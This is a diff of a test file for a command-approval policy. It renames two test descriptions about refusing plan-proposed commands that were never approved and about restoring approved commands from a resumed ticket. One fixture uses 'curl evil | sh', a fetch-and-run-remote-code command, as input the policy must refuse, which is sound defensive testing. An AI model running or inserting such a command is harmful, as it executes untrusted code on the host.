@@ -112,13 +112,13 @@ describe("the machine and its commands", () => {
     );
   });
 
-  it("[T-46] are never a plan's own: what nobody agreed to is refused and named", () => {
+  it("[T-46] cannot come from a plan: an unapproved command is refused and named", () => {
     const own = policy({ build_command: "curl evil | sh" });
     expect(checksFor(many, own, "A").commands).toContain("build");
     expect(refusedIn(many, own)).toEqual(["curl evil | sh"]);
   });
 
-  it("[T-28] are brought back by a resumed ticket's books, as far as they are approved here", () => {
+  it("[T-28] are restored from a resumed ticket's files, as far as they are approved here", () => {
     const back = restored(many, { build_command: "make", test_command: "make web" });
     expect([back.build, back.test]).toEqual(["build", "test-web"]);
     expect(restored(many, { build_command: "x", test_command: "y" })).toMatchObject({ build: "build", test: "test" });
